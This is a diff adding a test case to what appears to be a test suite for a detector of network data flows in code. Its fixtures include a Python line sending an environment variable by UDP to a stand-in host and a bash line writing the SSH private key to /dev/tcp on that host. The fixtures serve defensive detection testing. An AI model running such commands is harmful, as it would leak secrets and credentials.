@@ -424,6 +424,13 @@ describe('shell', () => {
     expect(flow(result, { from: ['decoded'], to: 'shell' })).toBeDefined();
     expect(flow(result, { from: ['net'], to: 'shell', host: 'h.test' })).toBeDefined();
   });
+  it('a datagram goes to the host and port it is given', () => {
+    const sent = py(
+      'import os, socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(os.environ["K"].encode(), ("h.test", 514))',
+    ).flows();
+    expect(sent.map(({ host }) => host)).toEqual(['h.test']);
+  });
+
   it('bash sockets are the network', () => {
     expect(
       flow(sh('cat ~/.ssh/id_rsa > /dev/tcp/h.test/80'), { from: ['content:ssh'], to: 'network', host: 'h.test' }),
